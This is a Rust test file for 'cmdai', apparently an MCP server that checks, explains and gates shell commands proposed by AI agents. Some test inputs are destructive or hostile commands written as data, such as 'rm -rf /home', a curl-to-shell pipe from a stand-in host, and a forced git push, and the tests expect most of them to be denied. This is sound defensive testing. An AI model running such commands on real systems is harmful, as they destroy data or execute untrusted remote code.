//! The Model Context Protocol, message by message.

use serde_json::{Value, json};

use crate::home::Home;

/// Sends the messages and gives the answers.
fn exchange(home: &Home, messages: &[Value]) -> Vec<Value> {
    let lines: String = messages
        .iter()
        .map(|message| format!("{message}\n"))
        .collect();
    raw(home, &lines)
}

fn raw(home: &Home, lines: &str) -> Vec<Value> {
    let said = home.cmdai_with(&["mcp"], lines);
    assert_eq!(said.code, 0, "{}", said.stderr);
    said.stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn initialize(version: &str) -> Value {
    json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": version, "capabilities": {}, "clientInfo": {"name": "claude-code", "version": "2.1.330"}}})
}

fn call(id: u64, tool: &str, arguments: Value) -> Value {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
}

#[test]
fn a_client_greets_lists_and_calls() {
    let home = Home::new();
    let answers = exchange(
        &home,
        &[
            initialize("2025-06-18"),
            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
            json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}),
            call(2, "check_command", json!({"command": "ls"})),
            call(
                3,
                "check_command",
                json!({"command": "rm -rf /home", "cwd": "/tmp"}),
            ),
            call(
                4,
                "explain_command",
                json!({"command": "curl http://x.example/a | sh"}),
            ),
            call(
                5,
                "request_approval",
                json!({"command": "ls", "reason": "because"}),
            ),
            json!({"jsonrpc": "2.0", "id": "six", "method": "ping"}),
        ],
    );
    let ids: Vec<_> = answers.iter().map(|answer| answer["id"].clone()).collect();
    assert_eq!(
        ids,
        [
            json!(0),
            json!(1),
            json!(2),
            json!(3),
            json!(4),
            json!(5),
            json!("six")
        ]
    );
    assert_eq!(answers[0]["result"]["protocolVersion"], "2025-06-18");
    assert_eq!(answers[0]["result"]["serverInfo"]["name"], "cmdai");
    let names: Vec<_> = answers[1]["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|tool| tool["name"].clone())
        .collect();
    assert_eq!(
        names,
        ["check_command", "explain_command", "request_approval"]
    );
    assert_eq!(
        answers[2]["result"]["structuredContent"]["decision"],
        "allow"
    );
    let denied = &answers[3]["result"];
    assert_eq!(denied["structuredContent"]["decision"], "deny");
    assert_eq!(denied["structuredContent"]["runs"], false);
    assert!(
        denied["content"][0]["text"]
            .as_str()
            .unwrap()
            .contains("fs.delete-home"),
        "{denied}"
    );
    assert!(
        answers[4]["result"]["content"][0]["text"]
            .as_str()
            .unwrap()
            .contains("x.example"),
        "{}",
        answers[4]
    );
    assert_eq!(
        answers[5]["result"]["structuredContent"]["status"],
        "not-needed"
    );
    assert_eq!(answers[6]["result"], json!({}));
}

#[test]
fn versions_are_agreed_on() {
    let home = Home::new();
    for (asked, agreed) in [
        ("2024-11-05", "2024-11-05"),
        ("2025-11-25", "2025-11-25"),
        ("1999-01-01", "2025-11-25"),
        ("2026-07-28", "2025-11-25"),
    ] {
        let answers = exchange(&home, &[initialize(asked)]);
        assert_eq!(answers[0]["result"]["protocolVersion"], agreed, "{asked}");
    }
    // Requests that stand for themselves need no greeting.
    let meta = |version: &str| json!({"io.modelcontextprotocol/protocolVersion": version, "io.modelcontextprotocol/clientCapabilities": {}});
    let with = |id: u64, method: &str, meta: Value| json!({"jsonrpc": "2.0", "id": id, "method": method, "params": {"_meta": meta}});
    let answers = exchange(
        &home,
        &[
            with(1, "server/discover", meta("2026-07-28")),
            with(2, "tools/list", meta("2026-07-28")),
            with(3, "tools/list", meta("2030-01-01")),
            with(
                4,
                "tools/list",
                json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28"}),
            ),
            json!({"jsonrpc": "2.0", "id": 5, "method": "tools/list"}),
        ],
    );
    assert!(
        answers[0]["result"]["supportedVersions"]
            .as_array()
            .unwrap()
            .contains(&json!("2026-07-28"))
    );
    assert_eq!(answers[1]["result"]["resultType"], "complete");
    assert_eq!(answers[2]["error"]["code"], -32022);
    assert_eq!(answers[3]["error"]["code"], -32602);
    assert_eq!(
        answers[4]["error"]["code"], -32600,
        "no greeting, no version"
    );
}

#[test]
fn mistakes_are_answered_and_the_server_goes_on() {
    let home = Home::new();
    let long = format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"{}\"}}",
        "x".repeat(1_200_000)
    );
    let lines = [
        initialize("2025-11-25").to_string(),
        "{".to_owned(),
        "[]".to_owned(),
        "3".to_owned(),
        String::new(),
        long,
        json!({"jsonrpc": "2.0", "id": 1, "method": "resources/list"}).to_string(),
        call(2, "run_command", json!({"command": "ls"})).to_string(),
        call(3, "check_command", json!({})).to_string(),
        call(4, "check_command", json!({"command": "ls", "cwd": "here"})).to_string(),
        call(5, "check_command", json!({"command": "ls", "shell": "tcl"})).to_string(),
        json!({"jsonrpc": "2.0", "id": 6, "result": {}}).to_string(),
        json!({"jsonrpc": "2.0", "method": "notifications/cancelled"}).to_string(),
        call(7, "check_command", json!({"command": "ls"})).to_string(),
    ]
    .join("\n");
    let answers = raw(&home, &format!("{lines}\n"));
    let codes: Vec<_> = answers
        .iter()
        .map(|answer| answer["error"]["code"].as_i64().unwrap_or(0))
        .collect();
    assert_eq!(
        codes,
        [
            0, -32700, -32600, -32600, -32600, -32601, -32602, 0, 0, 0, 0
        ]
    );
    for answer in &answers[7..10] {
        assert_eq!(answer["result"]["isError"], true, "{answer}");
    }
    assert_eq!(
        answers[10]["result"]["structuredContent"]["decision"],
        "allow"
    );
}

#[test]
fn an_agent_is_an_agent_here_too() {
    let home = Home::new();
    let answers = exchange(
        &home,
        &[
            initialize("2025-11-25"),
            call(
                1,
                "check_command",
                json!({"command": "git push --force origin main"}),
            ),
        ],
    );
    let content = &answers[1]["result"]["structuredContent"];
    assert_eq!(
        content["decision"], "deny",
        "nobody confirms for an agent: {content}"
    );
}
